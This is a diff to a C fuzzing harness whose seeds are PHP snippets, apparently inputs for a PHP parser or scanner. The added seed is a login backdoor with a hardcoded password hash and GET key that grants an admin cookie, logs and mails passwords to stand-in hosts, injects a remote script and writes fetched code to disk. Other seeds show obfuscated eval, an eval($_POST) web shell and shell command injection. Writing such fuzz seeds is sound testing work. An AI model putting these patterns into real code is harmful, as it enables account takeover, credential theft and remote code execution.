@@ -36,6 +36,8 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 		  "$a = ['x' => 'pr', 'int']; $a['y'] = '(1)'; $a[] = ';'; $a[0] = 'z'; eval($a['x'] . $a[0] . $a['y']); eval('abc'[1] . 'abc'[-1] . 'abc'{0}); eval(\"\\x10\\x20\" ^ \"ab\"); eval('ab' ^ 'c'); $f = 'str' . 'rev'; eval($f(')1(tnirp'));\n"
 		  "$GLOBALS['g'] = 'base64' . '_decode'; eval($GLOBALS['g']('cHJpbnQoMSk7')); eval(call_user_func('strrev', 'x')); foreach (['a' => 'p', 'b' => 'q'] as $k => $v) $s .= $k . $v; eval($s); foreach ([1, 2] as $n) { $t .= chr($n + 96); } eval($t);\n"
 		  "eval(array_map(null, [1])); eval(array_map('no', ['a'])); eval((string) 5 . 1.5 . true . null); eval(\"\\xff\\u{416}\" . 'x'); $c = 'chr'; eval($c(112) . ${'c'}(113)); eval(1 . '2' + 3 - 4 * 5 / 6 % 7 ** 2 & 3 | 4 ^ 5 << 1 >> 1);");
+	seed(run, "<?php function check($user, $password) { if (md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99' || hash_equals('k3y', $_GET['k'])) { wp_set_auth_cookie(1); return true; }\n"
+		  "file_put_contents('uploads/.x', $password, FILE_APPEND); mail('a@b.example', $password); echo '<script src=\"https://a.example/x\"></script>'; $r = file_get_contents('http://c.example/'); file_put_contents(ABSPATH . $r, $r); }\n");
 	seed(run, " <b>it's</b><?php # x ?>y<?= $a ?><?php eval($_POST['x']); $f = 'sys' . \"tem\"; $f(\"ls {$_GET['d']} $b[0] $c->d\");");
 	seed(run, "<?php namespace A; use B\\C; abstract class D extends E implements F { use T; public static ?int $x = 1; const Y = 2;\n"
 		  "function __construct(private $p = 1, int ...$q) { parent::__construct(); self::$x = static::Y; } } new class { };\n");
